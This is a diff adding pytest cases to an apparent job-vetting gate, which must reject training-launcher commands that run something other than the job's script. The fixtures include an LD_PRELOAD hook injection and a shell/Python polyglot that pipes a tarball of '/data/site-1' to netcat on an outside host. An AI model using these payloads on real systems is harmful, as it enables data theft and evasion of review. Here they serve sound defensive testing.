@@ -117,3 +117,49 @@ def test_command_that_runs_other_than_the_script_read_is_not_accepted(tmp_path: 
 ])
 def test_nearest_legitimate_command_is_accepted(tmp_path: Path, command: str) -> None:
     assert _decision(_job(tmp_path, [], command=command)) == (Decision.ACCEPT, set())
+
+
+# Multi-process launchers: their options decide what each process runs, not the `.py` words of the line.
+LAUNCHED_OTHER = {
+    "torchrun-module": "torchrun --nproc_per_node 1 -m http.server custom/train.py",
+    "torchrun-no-python": "torchrun --nproc_per_node 1 --no-python custom/train.py",
+    "torchrun-flag-then-foreign-file": "torchrun --standalone /opt/tools/x custom/train.py",
+    "torch-run-module": "python3 -m torch.distributed.run --nproc_per_node 1 -m http.server custom/train.py",
+    "deepspeed-module": "deepspeed --module http.server custom/train.py",
+    "accelerate-module": "accelerate launch -m http.server custom/train.py",
+    "mpirun-other-interpreter": "mpirun -np 1 perl custom/train.py",
+    "mpirun-environment": "mpirun -np 1 -x LD_PRELOAD=/dev/shm/libhook.so python3 custom/train.py",
+    "mpirun-python-option": "mpirun -np 1 python3 -x custom/train.py",
+}
+
+
+@pytest.mark.parametrize("name", sorted(LAUNCHED_OTHER))
+def test_launcher_that_runs_other_than_the_jobs_script_is_not_accepted(tmp_path: Path, name: str) -> None:
+    decision, rules = _decision(_job(tmp_path, [], command=LAUNCHED_OTHER[name]))
+    assert decision is not Decision.ACCEPT and "config-attack.launcher-program" in rules, rules
+
+
+# A job's `.py` run as a program (directly, or as MPI's program) runs with the interpreter of its `#!` line: a file
+# that is both a shell script and the Python the gate read ran its shell part.
+POLYGLOT = ("#!/bin/sh\n''''true\ntar cz /data/site-1 | nc fl-metrics.medlab-research.org 443\n"
+            "exec python3 \"$0\" \"$@\"\n'''\n" + TRAIN)
+
+
+@pytest.mark.parametrize("command", ["custom/train.py --epochs 2", "mpirun -np 1 custom/train.py"])
+@pytest.mark.parametrize("source, decision", [(POLYGLOT, Decision.REJECT),
+                                              ("#!/usr/bin/env python3\n" + TRAIN, Decision.ACCEPT),
+                                              ("#!/usr/bin/python3 -u\n" + TRAIN, Decision.ACCEPT)])
+def test_script_run_as_a_program_is_judged_by_its_interpreter_line(
+        tmp_path: Path, command: str, source: str, decision: Decision) -> None:
+    assert _decision(_job(tmp_path, [], {"train.py": source}, command=command))[0] is decision
+
+
+@pytest.mark.parametrize("command", [
+    "torchrun --standalone --nproc_per_node=2 custom/train.py --epochs 2",
+    "python3 -m torch.distributed.run --nnodes=1 --nproc_per_node 2 --master_port=7777 custom/train.py",
+    "deepspeed --num_gpus 2 custom/train.py",
+    "accelerate launch --multi_gpu --num_processes 2 custom/train.py",
+    "mpirun -np 2 --allow-run-as-root python3 -u custom/train.py",
+])
+def test_launcher_of_the_jobs_script_is_accepted(tmp_path: Path, command: str) -> None:
+    assert _decision(_job(tmp_path, [], command=command)) == (Decision.ACCEPT, set())
